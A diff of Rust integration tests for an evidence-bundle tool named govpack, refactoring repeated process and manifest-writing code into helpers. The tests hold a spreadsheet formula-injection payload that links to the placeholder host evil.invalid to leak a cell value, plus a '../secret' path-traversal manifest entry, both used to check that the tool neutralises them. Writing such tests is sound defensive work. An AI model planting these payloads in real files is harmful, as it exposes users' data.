@@ -186,6 +186,29 @@ fn the_workbook_has_every_sheet_and_the_scorecard_shows_kpi_summarys_values() {
 
 /// A `data/` folder with tenant `a` (Alpha) and its devices export of `devices` (rows after the
 /// header `snapshot_date,tenant_id,device_id,hostname,device_class,last_seen_utc`).
+/// The release binary run in `dir` on its lake `dir/lake`.
+fn govpack_in(dir: &Path, args: &[&str]) -> std::process::Output {
+    std::process::Command::new(env!("CARGO_BIN_EXE_govpack"))
+        .args(["--lake", "lake"])
+        .args(args)
+        .current_dir(dir)
+        .output()
+        .unwrap()
+}
+
+/// Writes a bundle's manifest and, beside it, its hash, as `sha256sum` would.
+fn write_manifests(bundle: &Path, manifest: &str) {
+    std::fs::write(bundle.join("manifest.sha256"), manifest).unwrap();
+    std::fs::write(
+        bundle.join("manifest.sha256.sha256"),
+        format!(
+            "{}  manifest.sha256\n",
+            govpack::sources::sha256_hex(manifest.as_bytes())
+        ),
+    )
+    .unwrap();
+}
+
 fn alpha_exports(dir: &Path, devices: &str) -> std::path::PathBuf {
     let data = dir.join("data");
     std::fs::create_dir_all(&data).unwrap();
@@ -300,12 +323,15 @@ fn text_that_looks_like_a_formula_is_inert_in_every_csv_of_a_bundle_and_of_query
         .collect();
     assert!(live.is_empty(), "cells a spreadsheet would run: {live:?}");
 
-    let out = std::process::Command::new(env!("CARGO_BIN_EXE_govpack"))
-        .args(["--lake", "lake", "query", "--format", "csv"])
-        .arg("select hostname, -1 as delta, -0.5 as share from devices where device_id = 'd1'")
-        .current_dir(dir.path())
-        .output()
-        .unwrap();
+    let out = govpack_in(
+        dir.path(),
+        &[
+            "query",
+            "--format",
+            "csv",
+            "select hostname, -1 as delta, -0.5 as share from devices where device_id = 'd1'",
+        ],
+    );
     assert_eq!(
         String::from_utf8_lossy(&out.stdout),
         "hostname,delta,share\n\"'=HYPERLINK(\"\"http://evil.invalid/?x=\"\"&A1,\"\"click\"\")\",-1,-0.5\n",
@@ -422,16 +448,7 @@ fn verify_refuses_a_manifest_entry_outside_the_bundle() {
     std::fs::create_dir_all(&bundle).unwrap();
     std::fs::write(dir.path().join("secret"), "s").unwrap();
     let digest = govpack::sources::sha256_hex(b"s");
-    let manifest = format!("{digest}  ../secret\n");
-    std::fs::write(bundle.join("manifest.sha256"), &manifest).unwrap();
-    std::fs::write(
-        bundle.join("manifest.sha256.sha256"),
-        format!(
-            "{}  manifest.sha256\n",
-            govpack::sources::sha256_hex(manifest.as_bytes())
-        ),
-    )
-    .unwrap();
+    write_manifests(&bundle, &format!("{digest}  ../secret\n"));
     let problems = reports::bundle::verify(&bundle).unwrap();
     assert_eq!(
         problems,
@@ -748,16 +765,7 @@ fn rebuild_manifests(bundle: &Path) {
         let bytes = std::fs::read(bundle.join(&f)).unwrap();
         lines.push(format!("{}  {f}\n", govpack::sources::sha256_hex(&bytes)));
     }
-    let manifest = lines.concat();
-    std::fs::write(bundle.join("manifest.sha256"), &manifest).unwrap();
-    std::fs::write(
-        bundle.join("manifest.sha256.sha256"),
-        format!(
-            "{}  manifest.sha256\n",
-            govpack::sources::sha256_hex(manifest.as_bytes())
-        ),
-    )
-    .unwrap();
+    write_manifests(bundle, &lines.concat());
 }
 
 #[test]
@@ -770,14 +778,7 @@ fn a_signed_bundle_checks_with_stock_openssh_and_an_edited_one_fails_though_its_
         "[evidence]\nsigning_key = \"evidence_ed25519\"\n",
     )
     .unwrap();
-    let govpack = |args: &[&str]| {
-        std::process::Command::new(env!("CARGO_BIN_EXE_govpack"))
-            .args(["--lake", "lake"])
-            .args(args)
-            .current_dir(dir.path())
-            .output()
-            .unwrap()
-    };
+    let govpack = |args: &[&str]| govpack_in(dir.path(), args);
     let out = govpack(&["report", "--period", "2026-10", "--out", "packs"]);
     assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
     let bundle = dir.path().join("packs/evidence-portfolio-2026-10");
@@ -940,13 +941,7 @@ fn a_signing_key_that_is_not_a_private_unencrypted_ed25519_key_is_a_config_error
             format!("[evidence]\nsigning_key = {:?}\n", key.to_str().unwrap()),
         )
         .unwrap();
-        let out = std::process::Command::new(env!("CARGO_BIN_EXE_govpack"))
-            .args([
-                "--lake", "lake", "report", "--period", "2026-10", "--out", "packs",
-            ])
-            .current_dir(dir.path())
-            .output()
-            .unwrap();
+        let out = govpack_in(dir.path(), &["report", "--period", "2026-10", "--out", "packs"]);
         let stderr = String::from_utf8_lossy(&out.stderr);
         assert_eq!(out.status.code(), Some(2), "{stderr}");
         assert!(
